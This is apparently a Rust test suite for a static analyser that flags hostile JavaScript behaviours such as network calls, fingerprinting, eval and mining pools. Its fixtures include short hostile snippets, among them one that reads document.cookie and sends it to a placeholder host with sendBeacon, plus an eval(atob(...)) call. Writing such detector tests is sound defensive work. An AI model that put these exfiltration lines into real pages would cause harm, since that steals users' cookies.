use hostile_js_analysis::signatures::{SignatureSpec, SignatureTable};
use hostile_js_analysis::static_analysis::{scan, scan_with, ScanOptions};
use hostile_js_analysis::{BehaviorKind, BehaviorSource, LogLevel, Severity};

#[test]
fn single_fetch_yields_one_medium_network_behavior() {
    let report = scan(r#"fetch("https://evil.example/x")"#);
    assert_eq!(report.behaviors.len(), 1);
    let behavior = &report.behaviors[0];
    assert_eq!(behavior.kind, BehaviorKind::NetworkRequest);
    assert_eq!(behavior.severity, Severity::Medium);
    assert_eq!(behavior.source, BehaviorSource::Static);
    assert_eq!(behavior.details["matches"], 1);
    assert_eq!(report.patterns.len(), 1);
    assert_eq!(report.patterns[0].signature, "network.fetch");
}

#[test]
fn single_beacon_yields_one_medium_network_behavior() {
    let report = scan(r#"navigator.sendBeacon("https://e.example/c", data)"#);
    let found: Vec<_> = report.patterns.iter().map(|p| p.signature.as_str()).collect();
    assert_eq!(found, vec!["network.beacon"]);
    assert_eq!(report.behaviors.len(), 1);
    assert_eq!(report.behaviors[0].kind, BehaviorKind::NetworkRequest);
    assert_eq!(report.behaviors[0].severity, Severity::Medium);
}

#[test]
fn navigator_properties_still_count_as_fingerprinting() {
    let report = scan("var ua = navigator.userAgent; var cores = navigator.hardwareConcurrency;");
    assert_eq!(report.behaviors.len(), 1);
    assert_eq!(report.behaviors[0].kind, BehaviorKind::Fingerprinting);
    assert_eq!(report.behaviors[0].details["matches"], 2);
}

#[test]
fn benign_source_has_no_behaviors() {
    let report = scan("var total = 1 + 2;\nvar label = 'sum';");
    assert!(report.behaviors.is_empty());
    assert!(report.patterns.is_empty());
    assert!(report.complexity.score < 80);
    assert!(report.obfuscation.score < 70);
}

#[test]
fn examples_are_capped_at_three() {
    let source = "btoa('a'); btoa('b'); BTOA('c'); btoa('d'); btoa('e');";
    let report = scan(source);
    let behavior = report
        .behaviors
        .iter()
        .find(|b| b.description.contains("btoa"))
        .expect("btoa behavior");
    assert_eq!(behavior.details["matches"], 5);
    assert_eq!(behavior.details["examples"].as_array().map(Vec::len), Some(3));
}

#[test]
fn scanning_twice_is_deterministic() {
    let source = r#"
        var k = document.cookie;
        localStorage.setItem("k", k);
        eval(atob("YWxlcnQoMSk="));
        setInterval("tick()", 10);
        navigator.sendBeacon("https://collect.example", k);
    "#;
    let first = scan(source);
    let second = scan(source);
    assert_eq!(first.patterns, second.patterns);
    assert_eq!(first.complexity, second.complexity);
    assert_eq!(first.obfuscation, second.obfuscation);
    assert_eq!(first.behaviors.len(), second.behaviors.len());
    for (a, b) in first.behaviors.iter().zip(&second.behaviors) {
        assert!(a.same_finding(b));
    }
}

#[test]
fn behaviors_follow_table_order() {
    let source = "Date.now(); fetch('/a'); eval('1');";
    let report = scan(source);
    let ids: Vec<_> = report.patterns.iter().map(|p| p.signature.as_str()).collect();
    assert_eq!(ids, vec!["network.fetch", "eval.direct", "timing.date_now"]);
}

#[test]
fn high_severity_detections_log_warnings() {
    let report = scan("eval('x')");
    assert!(report
        .logs
        .iter()
        .any(|log| log.level == LogLevel::Warning && log.message.starts_with("Detected:")));
    assert_eq!(report.logs.first().map(|l| l.message.as_str()), Some("Starting static code analysis"));
    assert!(report
        .logs
        .last()
        .map(|l| l.message.starts_with("Static analysis completed in"))
        .unwrap_or(false));
}

#[test]
fn obfuscation_score_never_decreases_as_indicators_grow() {
    let mut previous = 0;
    for n in 0..12 {
        let ident = format!("v{}", "q".repeat(24));
        let escapes = r"\x41".repeat(n);
        let idents = vec![ident.as_str(); n].join(";");
        let source = format!("var s = '{escapes}';{idents}");
        let score = scan(&source).obfuscation.score;
        assert!(score >= previous, "score dropped from {previous} to {score} at {n}");
        previous = score;
    }
    assert!(previous > 0);
}

#[test]
fn high_complexity_adds_medium_obfuscation_behavior() {
    let source = "if (a) { for (;;) { while (b) { b--; } } }\n".repeat(20);
    let report = scan(&source);
    assert!(report.complexity.score > 80);
    assert!(report.behaviors.iter().any(|b| {
        b.kind == BehaviorKind::Obfuscation
            && b.severity == Severity::Medium
            && b.description == "Code has high complexity (potential obfuscation)"
    }));
}

#[test]
fn configured_signatures_are_matched_after_builtins() {
    let extra = SignatureSpec {
        id: "custom.miner_pool".into(),
        pattern: r"stratum\+tcp://".into(),
        category: BehaviorKind::CryptoMining,
        severity: Severity::High,
        description: "References a mining pool".into(),
    };
    let table = SignatureTable::with_extra(&[extra]).expect("valid extra signature");
    let report = scan_with(
        "fetch('/x'); var pool = 'stratum+tcp://pool.example:3333';",
        &table,
        &ScanOptions::default(),
    );
    let ids: Vec<_> = report.patterns.iter().map(|p| p.signature.as_str()).collect();
    assert_eq!(ids, vec!["network.fetch", "custom.miner_pool"]);
}

#[test]
fn entropy_bonus_respects_configured_threshold() {
    let source = "abcdefgh";
    let strict = ScanOptions { entropy_threshold: 1.0, ..ScanOptions::default() };
    let report = scan_with(source, SignatureTable::builtin(), &strict);
    assert_eq!(report.obfuscation.score, 15);
    let lax = scan(source);
    assert_eq!(lax.obfuscation.score, 0);
}
